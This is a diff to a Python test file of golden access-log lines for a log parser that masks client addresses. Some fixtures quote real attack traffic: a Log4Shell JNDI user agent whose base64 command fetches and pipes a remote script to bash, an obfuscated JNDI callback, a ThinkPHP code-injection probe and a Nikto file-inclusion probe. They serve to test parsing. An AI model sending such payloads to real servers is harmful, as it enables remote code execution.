@@ -76,7 +76,7 @@ GOLDEN = [
     pytest.param(
         "combined",
         # apache_logs:1
-        '83.149.9.216 - - [17/May/2015:10:05:03 +0000] "GET /presentations/logstash-monitorama-2013/images/kibana-search.png HTTP/1.1" 200 203023 "http://semicomplete.com/presentations/logstash-monitorama-2013/" "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_9_1) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/32.0.1700.77 Safari/537.36"',  # noqa: E501
+        '83.149.9.216 - - [17/May/2015:10:05:03 +0000] "GET /presentations/logstash-monitorama-2013/images/kibana-search.png HTTP/1.1" 200 203023 "http://semicomplete.com/presentations/logstash-monitorama-2013/" "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_9_1) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/32.0.1700.77 Safari/537.36"',
         row(
             ts=utc(2015, 5, 17, 10, 5, 3),
             method="GET",
@@ -94,7 +94,7 @@ GOLDEN = [
     pytest.param(
         "combined",
         # apache_logs:77 — bytes '-' and no referrer
-        '218.30.103.62 - - [17/May/2015:11:05:11 +0000] "GET /robots.txt HTTP/1.1" 200 - "-" "Sogou web spider/4.0(+http://www.sogou.com/docs/help/webmasters.htm#07)"',  # noqa: E501
+        '218.30.103.62 - - [17/May/2015:11:05:11 +0000] "GET /robots.txt HTTP/1.1" 200 - "-" "Sogou web spider/4.0(+http://www.sogou.com/docs/help/webmasters.htm#07)"',
         row(
             ts=utc(2015, 5, 17, 11, 5, 11),
             method="GET",
@@ -110,7 +110,7 @@ GOLDEN = [
     pytest.param(
         "combined",
         # apache_logs:63 — query string that itself looks like a path
-        '66.249.73.185 - - [17/May/2015:10:05:22 +0000] "GET /doc/index.html?org/elasticsearch/action/search/SearchResponse.html HTTP/1.1" 404 294 "-" "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"',  # noqa: E501
+        '66.249.73.185 - - [17/May/2015:10:05:22 +0000] "GET /doc/index.html?org/elasticsearch/action/search/SearchResponse.html HTTP/1.1" 404 294 "-" "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"',
         row(
             ts=utc(2015, 5, 17, 10, 5, 22),
             method="GET",
@@ -127,7 +127,7 @@ GOLDEN = [
     pytest.param(
         "combined",
         # apache_logs:32 — query string in the request and in the referrer
-        '50.16.19.13 - - [17/May/2015:10:05:10 +0000] "GET /blog/tags/puppet?flav=rss20 HTTP/1.1" 200 14872 "http://www.semicomplete.com/blog/tags/puppet?flav=rss20" "Tiny Tiny RSS/1.11 (http://tt-rss.org/)"',  # noqa: E501
+        '50.16.19.13 - - [17/May/2015:10:05:10 +0000] "GET /blog/tags/puppet?flav=rss20 HTTP/1.1" 200 14872 "http://www.semicomplete.com/blog/tags/puppet?flav=rss20" "Tiny Tiny RSS/1.11 (http://tt-rss.org/)"',
         row(
             ts=utc(2015, 5, 17, 10, 5, 10),
             method="GET",
@@ -159,7 +159,7 @@ GOLDEN = [
     pytest.param(
         "combined",
         # apache_logs:5851 — Apache \xNN escapes (cp1251 bytes) in the referrer are plain text
-        r'201.242.142.135 - - [19/May/2015:11:05:10 +0000] "GET /files/logstash/ HTTP/1.0" 200 13316 "http://\xe4\xe5\xe3\xf2\xff\xf0\xed\xee\xe5-\xec\xfb\xeb\xee.\xf0\xf4/" "Mozilla/5.0 (Windows NT 6.1; rv:11.0) Gecko/20100101 Firefox/11.0"',  # noqa: E501
+        r'201.242.142.135 - - [19/May/2015:11:05:10 +0000] "GET /files/logstash/ HTTP/1.0" 200 13316 "http://\xe4\xe5\xe3\xf2\xff\xf0\xed\xee\xe5-\xec\xfb\xeb\xee.\xf0\xf4/" "Mozilla/5.0 (Windows NT 6.1; rv:11.0) Gecko/20100101 Firefox/11.0"',
         row(
             ts=utc(2015, 5, 19, 11, 5, 10),
             method="GET",
@@ -173,11 +173,28 @@ GOLDEN = [
         ),
         id="elastic-5851-escaped-referrer",
     ),
+    pytest.param(
+        "combined",
+        # apache_logs:8605 — '?' run in the target: the query starts at the first '?' and keeps the rest
+        '144.76.95.39 - - [20/May/2015:09:05:04 +0000] "GET /articles/ssh-???????????????????/ HTTP/1.0" 404 7861 "-" "Mozilla/5.0 (compatible; MJ12bot/v1.4.4; http://www.majestic12.co.uk/bot.php?+)"',
+        row(
+            ts=utc(2015, 5, 20, 9, 5, 4),
+            method="GET",
+            path="/articles/ssh-",
+            query="?" * 18 + "/",
+            protocol="HTTP/1.0",
+            status=404,
+            bytes=7861,
+            user_agent="Mozilla/5.0 (compatible; MJ12bot/v1.4.4; http://www.majestic12.co.uk/bot.php?+)",
+            client_net="144.76.95.0/24",
+        ),
+        id="elastic-8605-question-mark-run",
+    ),
     # ---------------- basjes-hackers/hackers-access.log (combined, +0100) ----------------
     pytest.param(
         "combined",
         # hackers-access.log:1
-        '195.154.46.135 - - [25/Oct/2015:04:11:25 +0100] "GET /linux/doing-pxe-without-dhcp-control HTTP/1.1" 200 24323 "http://howto.basjes.nl/" "Mozilla/5.0 (Windows NT 5.1; rv:35.0) Gecko/20100101 Firefox/35.0"',  # noqa: E501
+        '195.154.46.135 - - [25/Oct/2015:04:11:25 +0100] "GET /linux/doing-pxe-without-dhcp-control HTTP/1.1" 200 24323 "http://howto.basjes.nl/" "Mozilla/5.0 (Windows NT 5.1; rv:35.0) Gecko/20100101 Firefox/35.0"',
         row(
             ts=utc(2015, 10, 25, 3, 11, 25),
             method="GET",
@@ -195,7 +212,7 @@ GOLDEN = [
         "combined",
         # hackers-access.log:2579 — IPv6 client; the UA has a dotted quad "Dragon/36.1.1.21" that is
         # indistinguishable from an IPv4 address, so by the masking policy it is masked too.
-        '2001:41d0:8:f69::1 - - [29/Oct/2015:06:47:38 +0100] "POST /join_form HTTP/1.1" 302 10170 "http://niels.basjes.nl/join_form" "Mozilla/5.0 (Windows NT 6.1) AppleWebKit/537.36 (KHTML, like Gecko) Dragon/36.1.1.21 Chrome/36.0.1985.97 Safari/537.36"',  # noqa: E501
+        '2001:41d0:8:f69::1 - - [29/Oct/2015:06:47:38 +0100] "POST /join_form HTTP/1.1" 302 10170 "http://niels.basjes.nl/join_form" "Mozilla/5.0 (Windows NT 6.1) AppleWebKit/537.36 (KHTML, like Gecko) Dragon/36.1.1.21 Chrome/36.0.1985.97 Safari/537.36"',
         row(
             ts=utc(2015, 10, 29, 5, 47, 38),
             method="POST",
@@ -213,7 +230,7 @@ GOLDEN = [
     pytest.param(
         "combined",
         # hackers-access.log:163 — registration bot: the e-mail parameter value must be redacted
-        '103.27.239.39 - - [25/Oct/2015:10:52:44 +0100] "GET /acl_users/credentials_cookie_auth/require_login?came_from=http%3A//niels.basjes.nl/join_form&last_visit:date=2015%2F10%2F13+18%3A31%3A02.492+GMT%2B2&prev_visit:date=2015%2F10%2F13+18%3A31%3A02.493+GMT%2B2&came_from_prefs=&fullname=Eileen+Coe&username=EileenCoe&email=t.h.u.c.d.v2016%40gmail.com&form.button.Register=Register&form.submitted=1 HTTP/1.1" 200 19089 "http://niels.basjes.nl/" "Mozilla/5.0 (Windows NT 5.1; rv:35.0) Gecko/20100101 Firefox/35.0"',  # noqa: E501
+        '103.27.239.39 - - [25/Oct/2015:10:52:44 +0100] "GET /acl_users/credentials_cookie_auth/require_login?came_from=http%3A//niels.basjes.nl/join_form&last_visit:date=2015%2F10%2F13+18%3A31%3A02.492+GMT%2B2&prev_visit:date=2015%2F10%2F13+18%3A31%3A02.493+GMT%2B2&came_from_prefs=&fullname=Eileen+Coe&username=EileenCoe&email=t.h.u.c.d.v2016%40gmail.com&form.button.Register=Register&form.submitted=1 HTTP/1.1" 200 19089 "http://niels.basjes.nl/" "Mozilla/5.0 (Windows NT 5.1; rv:35.0) Gecko/20100101 Firefox/35.0"',
         row(
             ts=utc(2015, 10, 25, 9, 52, 44),
             method="GET",
@@ -236,7 +253,7 @@ GOLDEN = [
     pytest.param(
         "common",
         # NASA_access_log_Aug95.first20000.log:1 — hostname client
-        'in24.inetnebr.com - - [01/Aug/1995:00:00:01 -0400] "GET /shuttle/missions/sts-68/news/sts-68-mcc-05.txt HTTP/1.0" 200 1839',  # noqa: E501
+        'in24.inetnebr.com - - [01/Aug/1995:00:00:01 -0400] "GET /shuttle/missions/sts-68/news/sts-68-mcc-05.txt HTTP/1.0" 200 1839',
         row(
             ts=utc(1995, 8, 1, 4, 0, 1),
             method="GET",
@@ -251,7 +268,7 @@ GOLDEN = [
     pytest.param(
         "common",
         # NASA_access_log_Aug95.first20000.log:15 — IPv4 client
-        '133.43.96.45 - - [01/Aug/1995:00:00:16 -0400] "GET /shuttle/missions/sts-69/mission-sts-69.html HTTP/1.0" 200 10566',  # noqa: E501
+        '133.43.96.45 - - [01/Aug/1995:00:00:16 -0400] "GET /shuttle/missions/sts-69/mission-sts-69.html HTTP/1.0" 200 10566',
         row(
             ts=utc(1995, 8, 1, 4, 0, 16),
             method="GET",
@@ -280,7 +297,7 @@ GOLDEN = [
     pytest.param(
         "common",
         # NASA_access_log_Aug95.first20000.log:421 — HTTP/0.9-style request: no protocol
-        'pipe1.nyc.pipeline.com - - [01/Aug/1995:00:12:37 -0400] "GET /history/apollo/apollo-13/apollo-13-patch-small.gif" 200 12859',  # noqa: E501
+        'pipe1.nyc.pipeline.com - - [01/Aug/1995:00:12:37 -0400] "GET /history/apollo/apollo-13/apollo-13-patch-small.gif" 200 12859',
         row(
             ts=utc(1995, 8, 1, 4, 12, 37),
             method="GET",
@@ -294,7 +311,7 @@ GOLDEN = [
     pytest.param(
         "common",
         # NASA_access_log_Aug95.first20000.log:5218 — run of spaces before the protocol
-        'macip-dialup-060.cisco.com - - [01/Aug/1995:03:58:23 -0400] "GET /facts/internet/bdgtti-1.01.html   HTTP/1.0" 200 344064',  # noqa: E501
+        'macip-dialup-060.cisco.com - - [01/Aug/1995:03:58:23 -0400] "GET /facts/internet/bdgtti-1.01.html   HTTP/1.0" 200 344064',
         row(
             ts=utc(1995, 8, 1, 7, 58, 23),
             method="GET",
@@ -309,7 +326,7 @@ GOLDEN = [
     pytest.param(
         "combined",
         # logfile_shop_access_log.0:1 — +0330 offset, trailing "$http_x_forwarded_for" field "-"
-        '54.36.149.41 - - [22/Jan/2019:03:56:14 +0330] "GET /filter/27|13%20%D9%85%DA%AF%D8%A7%D9%BE%DB%8C%DA%A9%D8%B3%D9%84,27|%DA%A9%D9%85%D8%AA%D8%B1%20%D8%A7%D8%B2%205%20%D9%85%DA%AF%D8%A7%D9%BE%DB%8C%DA%A9%D8%B3%D9%84,p53 HTTP/1.1" 200 30577 "-" "Mozilla/5.0 (compatible; AhrefsBot/6.1; +http://ahrefs.com/robot/)" "-"',  # noqa: E501
+        '54.36.149.41 - - [22/Jan/2019:03:56:14 +0330] "GET /filter/27|13%20%D9%85%DA%AF%D8%A7%D9%BE%DB%8C%DA%A9%D8%B3%D9%84,27|%DA%A9%D9%85%D8%AA%D8%B1%20%D8%A7%D8%B2%205%20%D9%85%DA%AF%D8%A7%D9%BE%DB%8C%DA%A9%D8%B3%D9%84,p53 HTTP/1.1" 200 30577 "-" "Mozilla/5.0 (compatible; AhrefsBot/6.1; +http://ahrefs.com/robot/)" "-"',
         row(
             ts=utc(2019, 1, 22, 0, 26, 14),
             method="GET",
@@ -326,7 +343,7 @@ GOLDEN = [
     pytest.param(
         "combined",
         # logfile_shop_access_log.0:26 — query string, trailing "-"
-        '178.253.33.51 - - [22/Jan/2019:03:56:21 +0330] "GET /image/32574?name=pr465at.jpg&wh=max HTTP/1.1" 200 28825 "https://www.zanbil.ir/m/product/32574/62991/%D9%85%D8%A7%D8%B4%DB%8C%D9%86-%D8%A7%D8%B5%D9%84%D8%A7%D8%AD-%D8%B5%D9%88%D8%B1%D8%AA-%D9%BE%D8%B1%D9%86%D8%B3%D9%84%DB%8C-%D9%85%D8%AF%D9%84-PR465AT" "Mozilla/5.0 (Linux; Android 5.1; HTC Desire 728 dual sim) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/71.0.3578.83 Mobile Safari/537.36" "-"',  # noqa: E501
+        '178.253.33.51 - - [22/Jan/2019:03:56:21 +0330] "GET /image/32574?name=pr465at.jpg&wh=max HTTP/1.1" 200 28825 "https://www.zanbil.ir/m/product/32574/62991/%D9%85%D8%A7%D8%B4%DB%8C%D9%86-%D8%A7%D8%B5%D9%84%D8%A7%D8%AD-%D8%B5%D9%88%D8%B1%D8%AA-%D9%BE%D8%B1%D9%86%D8%B3%D9%84%DB%8C-%D9%85%D8%AF%D9%84-PR465AT" "Mozilla/5.0 (Linux; Android 5.1; HTC Desire 728 dual sim) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/71.0.3578.83 Mobile Safari/537.36" "-"',
         row(
             ts=utc(2019, 1, 22, 0, 26, 21),
             method="GET",
@@ -370,7 +387,7 @@ GOLDEN = [
     pytest.param(
         "vhost_combined",
         # apache-access-test.log:7 — vhost without ":port"
-        'vhost1.domaine.fr 123.123.123.123 - - [04/Jul/2019:09:20:46 +0200] "GET / HTTP/1.1" 200 32953 "-" "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/75.0.3770.100 Safari/537.36"',  # noqa: E501
+        'vhost1.domaine.fr 123.123.123.123 - - [04/Jul/2019:09:20:46 +0200] "GET / HTTP/1.1" 200 32953 "-" "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/75.0.3770.100 Safari/537.36"',
         row(
             ts=utc(2019, 7, 4, 7, 20, 46),
             domain="vhost1.domaine.fr",
@@ -388,7 +405,7 @@ GOLDEN = [
     pytest.param(
         "vhost_combined",
         # apache-access-test-vhost.log:1 (the file has no final newline) — UA with two spaces
-        'vhost1.domaine.fr 123.123.123.123 - - [04/Jul/2019:09:20:46 +0200] "GET / HTTP/1.1" 200 32953 "-" "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/75.0.  3770.100 Safari/537.36"',  # noqa: E501
+        'vhost1.domaine.fr 123.123.123.123 - - [04/Jul/2019:09:20:46 +0200] "GET / HTTP/1.1" 200 32953 "-" "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/75.0.  3770.100 Safari/537.36"',
         row(
             ts=utc(2019, 7, 4, 7, 20, 46),
             domain="vhost1.domaine.fr",
@@ -406,7 +423,7 @@ GOLDEN = [
     pytest.param(
         "vhost_combined",
         # nginx-access-test-with-host.log:4 — nginx "$host:$server_port" = example.com:80
-        'example.com:80 81.2.69.143 - - [07/Dec/2016:11:05:07 +0100] "GET /ocelot HTTP/1.1" 200 571 "-" "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_14_0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/70.0.3538.102 Safari/537.36"',  # noqa: E501
+        'example.com:80 81.2.69.143 - - [07/Dec/2016:11:05:07 +0100] "GET /ocelot HTTP/1.1" 200 571 "-" "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_14_0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/70.0.3538.102 Safari/537.36"',
         row(
             ts=utc(2016, 12, 7, 10, 5, 7),
             domain="example.com",
@@ -422,9 +439,23 @@ GOLDEN = [
         id="beats-nginx-host-example-com-80",
     ),
     pytest.param(
+        "vhost_combined",
+        # nginx-access-test-with-host.log:8 — client "unix:" (unix socket) is not an address; junk request
+        'example.com:80 unix: - - [26/Feb/2019:15:39:42 +0100] "hello" 400 173 "-" "-"',
+        row(
+            ts=utc(2019, 2, 26, 14, 39, 42),
+            domain="example.com",
+            path="hello",
+            status=400,
+            bytes=173,
+            client_net=None,
+        ),
+        id="beats-nginx-host-unix-socket",
+    ),
+    pytest.param(
         XFF_LIST_FORMAT,
         # nginx-access-test.log:6 — non-canonical IPv6 client at the head of an X-Forwarded-For list
-        '2a03:0000:10ff:f00f:0000:0000:0:8000, 10.225.192.17 10.2.2.121 - - [30/Dec/2016:06:47:09 +0000] "GET /test.html HTTP/1.1" 404 8571 "-" "Mozilla/5.0 (compatible; Facebot 1.0; https://developers.facebook.com/docs/sharing/webmasters/crawler)"',  # noqa: E501
+        '2a03:0000:10ff:f00f:0000:0000:0:8000, 10.225.192.17 10.2.2.121 - - [30/Dec/2016:06:47:09 +0000] "GET /test.html HTTP/1.1" 404 8571 "-" "Mozilla/5.0 (compatible; Facebot 1.0; https://developers.facebook.com/docs/sharing/webmasters/crawler)"',
         row(
             ts=utc(2016, 12, 30, 6, 47, 9),
             method="GET",
@@ -488,7 +519,7 @@ GOLDEN = [
     pytest.param(
         "combined",
         # apache_log4j2_cve-2021-44228…log:1 — JNDI user agent; the LDAP host IP inside it is masked
-        '192.168.1.3 - - [10/Dec/2021:14:25:38 +0000] "GET / HTTP/1.1" 401 157 "-" "${jndi:ldap://45.155.205.233:12344/Basic/Command/Base64/KGN1cmwgLXMgNDUuMTU1LjIwNS4yMzM6NTg3NC84Mi42NC4xNDUuMTQxOjQ0M3x8d2dldCAtcSAtTy0gNDUuMTU1LjIwNS4yMzM6NTg3NC84Mi42NC4xNDUuMTQxOjQ0Myl8YmFzaA==}"',  # noqa: E501
+        '192.168.1.3 - - [10/Dec/2021:14:25:38 +0000] "GET / HTTP/1.1" 401 157 "-" "${jndi:ldap://45.155.205.233:12344/Basic/Command/Base64/KGN1cmwgLXMgNDUuMTU1LjIwNS4yMzM6NTg3NC84Mi42NC4xNDUuMTQxOjQ0M3x8d2dldCAtcSAtTy0gNDUuMTU1LjIwNS4yMzM6NTg3NC84Mi42NC4xNDUuMTQxOjQ0Myl8YmFzaA==}"',
         row(
             ts=utc(2021, 12, 10, 14, 25, 38),
             method="GET",
@@ -506,7 +537,7 @@ GOLDEN = [
     pytest.param(
         "combined",
         # apache_log4j2_cve-2021-44228…log:3 — obfuscated JNDI lookup in the referrer
-        '192.168.1.5 - - [12/Dec/2021:05:06:43 +0000] "GET / HTTP/1.1" 200 396 "${jndi:${lower:l}${lower:d}a${lower:p}://world80.log4j.bin${upper:a}ryedge.io:80/callback}" "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/78.0.3904.108 Safari/537.36"',  # noqa: E501
+        '192.168.1.5 - - [12/Dec/2021:05:06:43 +0000] "GET / HTTP/1.1" 200 396 "${jndi:${lower:l}${lower:d}a${lower:p}://world80.log4j.bin${upper:a}ryedge.io:80/callback}" "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/78.0.3904.108 Safari/537.36"',
         row(
             ts=utc(2021, 12, 12, 5, 6, 43),
             method="GET",
@@ -524,7 +555,7 @@ GOLDEN = [
     pytest.param(
         "combined",
         # http-wordpress-scan__http-wordpress-scan.log:7 — HTTP/2.0, HEAD, query, +1100 (previous UTC day)
-        '192.168.1.1 - - [01/Mar/2025:18:09:53 +1100] "HEAD /wp-content/plugins/blocksy-companion/README.md?cache=false HTTP/2.0" 404 0 "https://example.com" "Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/536.6 (KHTML, like Gecko) Chrome/20.0.1092.0 Safari/536.6"',  # noqa: E501
+        '192.168.1.1 - - [01/Mar/2025:18:09:53 +1100] "HEAD /wp-content/plugins/blocksy-companion/README.md?cache=false HTTP/2.0" 404 0 "https://example.com" "Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/536.6 (KHTML, like Gecko) Chrome/20.0.1092.0 Safari/536.6"',
         row(
             ts=utc(2025, 3, 1, 7, 9, 53),
             method="HEAD",
@@ -543,7 +574,7 @@ GOLDEN = [
     pytest.param(
         "combined",
         # ipv6-postoverflow__ipv6-postoverflow.log:1 — fully written-out IPv6 client
-        '2001:0db8:85a3:0000:0000:8a2e:0370:7334 - - [29/Sep/2021:14:11:34 +0200] "HEAD / HTTP/1.1" 200 0 "-" "Mozilla/5.00 (Nikto/2.1.5) (Evasions:None) (Test:Port Check)"',  # noqa: E501
+        '2001:0db8:85a3:0000:0000:8a2e:0370:7334 - - [29/Sep/2021:14:11:34 +0200] "HEAD / HTTP/1.1" 200 0 "-" "Mozilla/5.00 (Nikto/2.1.5) (Evasions:None) (Test:Port Check)"',
         row(
             ts=utc(2021, 9, 29, 12, 11, 34),
             method="HEAD",
@@ -556,11 +587,47 @@ GOLDEN = [
         ),
         id="crowdsec-ipv6-long-form",
     ),
+    pytest.param(
+        "combined",
+        # thinkphp-cve-2018-20062__thinkphp-cve-2018-20062.log:5 — the PHP payload after a second '?' is
+        # part of the query (evidence of the exploit attempt)
+        '192.168.1.5 - - [10/Dec/2021:14:41:40 +0100] "GET /?s=index/%5Cthink%5Cview%5Cdriver%5CPhp/display&content=%3C?php%20phpinfo();?%3E HTTP/1.1" 200 3543 "-" "Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/70.0.3538.102 Safari/537.36"',
+        row(
+            ts=utc(2021, 12, 10, 13, 41, 40),
+            method="GET",
+            path="/",
+            query="s=index/%5Cthink%5Cview%5Cdriver%5CPhp/display&content=%3C?php%20phpinfo();?%3E",
+            protocol="HTTP/1.1",
+            status=200,
+            bytes=3543,
+            user_agent="Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) "
+            "Chrome/70.0.3538.102 Safari/537.36",
+            client_net="192.168.1.0/24",
+        ),
+        id="crowdsec-thinkphp-second-question-mark",
+    ),
+    pytest.param(
+        "combined",
+        # apache-http-probing__apache-http-probing.log:7 — Nikto RFI probe, common-format line:
+        # "&cmd=ls" after the "??" is still part of the query
+        '172.17.0.1 - - [29/Sep/2021:12:37:05 +0000] "GET /stats.php?vwar_root=http://cirt.net/rfiinc.txt??&cmd=ls HTTP/1.1" 404 196',
+        row(
+            ts=utc(2021, 9, 29, 12, 37, 5),
+            method="GET",
+            path="/stats.php",
+            query="vwar_root=http://cirt.net/rfiinc.txt??&cmd=ls",
+            protocol="HTTP/1.1",
+            status=404,
+            bytes=196,
+            client_net="172.17.0.0/24",
+        ),
+        id="crowdsec-nikto-rfi-double-question-mark",
+    ),
     # ---------------- apachelogs-tests/vhost_combined.log ----------------
     pytest.param(
         "vhost_combined",
         # vhost_combined.log:1
-        'www.varonathe.org:80 203.62.1.80 - - [06/May/2019:06:28:20 +0000] "GET / HTTP/1.1" 301 577 "-" "Mozilla/5.0 (Windows NT 6.1; Win64; x64; rv:58.0) Gecko/20100101 Firefox/58.0"',  # noqa: E501
+        'www.varonathe.org:80 203.62.1.80 - - [06/May/2019:06:28:20 +0000] "GET / HTTP/1.1" 301 577 "-" "Mozilla/5.0 (Windows NT 6.1; Win64; x64; rv:58.0) Gecko/20100101 Firefox/58.0"',
         row(
             ts=utc(2019, 5, 6, 6, 28, 20),
             domain="www.varonathe.org",
@@ -577,7 +644,7 @@ GOLDEN = [
     pytest.param(
         "vhost_combined",
         # vhost_combined.log:3 — POST to a scanner target
-        'www.varonathe.org:80 203.62.1.80 - - [06/May/2019:06:28:21 +0000] "POST /App6079ec68.php HTTP/1.1" 301 606 "-" "Mozilla/5.0 (Windows NT 6.1; Win64; x64; rv:58.0) Gecko/20100101 Firefox/58.0"',  # noqa: E501
+        'www.varonathe.org:80 203.62.1.80 - - [06/May/2019:06:28:21 +0000] "POST /App6079ec68.php HTTP/1.1" 301 606 "-" "Mozilla/5.0 (Windows NT 6.1; Win64; x64; rv:58.0) Gecko/20100101 Firefox/58.0"',
         row(
             ts=utc(2019, 5, 6, 6, 28, 21),
             domain="www.varonathe.org",
@@ -594,7 +661,7 @@ GOLDEN = [
     pytest.param(
         "vhost_combined",
         # vhost_combined.log:6 — "SE 2.X MetaSr 1.0" in the user agent is not an address
-        'www.varonathe.org:80 203.62.1.80 - - [06/May/2019:06:28:21 +0000] "GET /help.php HTTP/1.1" 301 592 "-" "Mozilla/5.0 (Windows NT 5.2) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/58.0.3029.110 Safari/537.36 SE 2.X MetaSr 1.0"',  # noqa: E501
+        'www.varonathe.org:80 203.62.1.80 - - [06/May/2019:06:28:21 +0000] "GET /help.php HTTP/1.1" 301 592 "-" "Mozilla/5.0 (Windows NT 5.2) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/58.0.3029.110 Safari/537.36 SE 2.X MetaSr 1.0"',
         row(
             ts=utc(2019, 5, 6, 6, 28, 21),
             domain="www.varonathe.org",
@@ -648,28 +715,28 @@ REJECTS = [
     # lnav-tests/logfile_bad_access_log.0:2 — ident and user fields missing
     pytest.param(
         "combined",
-        '192.168.202.254 [20/Jul/2009:22:59:29 +0000] "GET /vmw/vSphere/default/vmkboot.gz HTTP/1.0" 404 46210 "-" "gPXE/0.9.7"',  # noqa: E501
+        '192.168.202.254 [20/Jul/2009:22:59:29 +0000] "GET /vmw/vSphere/default/vmkboot.gz HTTP/1.0" 404 46210 "-" "gPXE/0.9.7"',
         "unparseable",
         id="lnav-bad-access-middle",
     ),
     # elastic-apache/apache_logs:8899 — unterminated user agent
     pytest.param(
         "combined",
-        '46.118.127.106 - - [20/May/2015:12:05:17 +0000] "GET /scripts/grok-py-test/configlib.py HTTP/1.1" 200 235 "-" "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html',  # noqa: E501
+        '46.118.127.106 - - [20/May/2015:12:05:17 +0000] "GET /scripts/grok-py-test/configlib.py HTTP/1.1" 200 235 "-" "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html',
         "unparseable",
         id="elastic-8899-unterminated-ua",
     ),
     # beats-filebeat-tests/nginx-access-test.log:3 — an X-Forwarded-For list where combined expects %h
     pytest.param(
         "combined",
-        '10.0.0.2, 10.0.0.1, 85.181.35.98 - - [07/Dec/2016:11:05:07 +0100] "GET /ocelot HTTP/1.1" 200 571 "-" "Mozilla/5.0 (Macintosh; Intel Mac OS X 10.12; rv:49.0) Gecko/20100101 Firefox/49.0"',  # noqa: E501
+        '10.0.0.2, 10.0.0.1, 85.181.35.98 - - [07/Dec/2016:11:05:07 +0100] "GET /ocelot HTTP/1.1" 200 571 "-" "Mozilla/5.0 (Macintosh; Intel Mac OS X 10.12; rv:49.0) Gecko/20100101 Firefox/49.0"',
         "unparseable",
         id="beats-nginx-xff-list-in-combined",
     ),
     # crowdsec-hub-tests/apache2-logs__apache2-logs.log:8 — an Apache error-log line in an access log
     pytest.param(
         "combined",
-        "[Thu Oct 13 12:24:49.880562 2022] [auth_basic:error] [pid 10:tid 140120579262208] [client 31.33.58.75:50229] AH01618: user sss not found: /",  # noqa: E501
+        "[Thu Oct 13 12:24:49.880562 2022] [auth_basic:error] [pid 10:tid 140120579262208] [client 31.33.58.75:50229] AH01618: user sss not found: /",
         "unparseable",
         id="crowdsec-error-log-line",
     ),
@@ -683,7 +750,7 @@ REJECTS = [
     # crowdsec-hub-tests/nginx_http-logs__nginx_http-logs.log:9 — nginx error-log line
     pytest.param(
         "combined",
-        '2021/12/01 13:53:33 [error] 31#31: *46 "/usr/share/nginx/html/market/index.html" is not found (2: No such file or directory), client: 172.17.0.1, server: localhost, request: "GET /market/ HTTP/1.1", host: "localhost"',  # noqa: E501
+        '2021/12/01 13:53:33 [error] 31#31: *46 "/usr/share/nginx/html/market/index.html" is not found (2: No such file or directory), client: 172.17.0.1, server: localhost, request: "GET /market/ HTTP/1.1", host: "localhost"',
         "unparseable",
         id="crowdsec-nginx-error-log-line",
     ),
@@ -714,7 +781,9 @@ REJECTS = [
     ),
     pytest.param(
         "combined",
-        '2001:db8:5:6::7 - - [01/Nov/2026:10:00:00 +0000] "GET /' + "a" * _70_KIB + ' HTTP/1.1" 200 512 "-" "-"',
+        '2001:db8:5:6::7 - - [01/Nov/2026:10:00:00 +0000] "GET /'
+        + "a" * _70_KIB
+        + ' HTTP/1.1" 200 512 "-" "-"',
         "too_long",
         id="70-kib-line",
     ),
@@ -726,20 +795,30 @@ REJECTS = [
     ),
 ]
 
-_ADDR_CANDIDATE = re.compile(r"[0-9A-Fa-f:.]{3,}")
+_V4_IN_TEXT = re.compile(r"(?<![0-9])[0-9]{1,3}(?:\.[0-9]{1,3}){3}(?![0-9])")
+_V6_IN_TEXT = re.compile(r"(?<![0-9A-Fa-f])[0-9A-Fa-f]{0,4}(?::[0-9A-Fa-f]{0,4})+(?:\.[0-9]{1,3}){0,3}")
 
 
-def addresses_in(text: str) -> set[str]:
-    """Every IPv4/IPv6 address written in ``text`` (as written, and in compressed/exploded form)."""
-    found: set[str] = set()
-    for tok in _ADDR_CANDIDATE.findall(text):
-        for cand in {tok, tok.strip(":."), tok.rstrip(":.,")}:
+def addresses_in(text: str) -> set[ipaddress.IPv4Address | ipaddress.IPv6Address]:
+    """Every IPv4/IPv6 address written in ``text`` (also with a port or trailing punctuation)."""
+    found: set[ipaddress.IPv4Address | ipaddress.IPv6Address] = set()
+    candidates = _V4_IN_TEXT.findall(text) + _V6_IN_TEXT.findall(text)
+    for tok in candidates:
+        for cand in (tok, tok.strip(":."), tok.rsplit(":", 1)[0]):
             try:
-                addr = ipaddress.ip_address(cand)
+                found.add(ipaddress.ip_address(cand))
             except ValueError:
                 continue
-            found |= {cand, str(addr), addr.exploded}
     return found
+
+
+def leaked_forms(
+    addr: ipaddress.IPv4Address | ipaddress.IPv6Address, masker: privacy.ClientMasker
+) -> set[str]:
+    """Spellings of ``addr`` that must not survive masking (none if it equals its own network address)."""
+    if masker.network_of(addr).split("/")[0] == str(addr):
+        return set()
+    return {str(addr), addr.exploded}
 
 
 @pytest.mark.parametrize(("fmt", "line", "reason"), REJECTS)
